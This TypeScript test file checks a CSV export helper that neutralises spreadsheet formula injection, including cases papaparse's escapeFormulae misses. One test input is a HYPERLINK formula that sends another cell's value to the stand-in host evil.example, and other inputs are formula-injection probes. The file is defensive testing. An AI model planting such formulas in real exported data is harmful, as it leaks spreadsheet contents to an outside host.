import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { toSpreadsheetCsv, unguardCell } from '@/lib/csv/spreadsheet-csv';

/** The cells of a CSV the way a spreadsheet reads them (quotes and doubled quotes undone). */
const cellsOf = (text: string) => Papa.parse<string[]>(text.trimEnd(), { newline: '\r\n' }).data;

describe('toSpreadsheetCsv', () => {
  it('guards a formula that a line break follows (papaparse’s escapeFormulae misses it)', () => {
    const name = '=HYPERLINK("https://evil.example/?t="&D2,"x")\nsecond line';
    expect(Papa.unparse([[name]], { escapeFormulae: true })).toMatch(/^"=HYPERLINK/);
    const [, row] = cellsOf(toSpreadsheetCsv(['name'], [[name]]));
    expect(row).toEqual([`'${name}`]);
  });

  it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '=x\r\ny', "'=already guarded"])(
    'guards %j, whatever follows',
    (value) => {
      const [, row] = cellsOf(toSpreadsheetCsv(['value'], [[value]]));
      expect(row?.[0]).toBe(`'${value}`);
      expect(unguardCell(row?.[0] ?? '')).toBe(value);
    },
  );

  it.each(['plain', "'quoted by the user", 'a=b', ' =space first'])('leaves %j as it is', (value) => {
    const [, row] = cellsOf(toSpreadsheetCsv(['value'], [[value]]));
    expect(row?.[0]).toBe(value);
    expect(unguardCell(value)).toBe(value);
  });

  it('writes a header, CRLF line ends and a final line end, and quotes what needs quoting', () => {
    expect(toSpreadsheetCsv(['a', 'b'], [['x, y', 'say "hi"']])).toBe('a,b\r\n"x, y","say ""hi"""\r\n');
  });
});
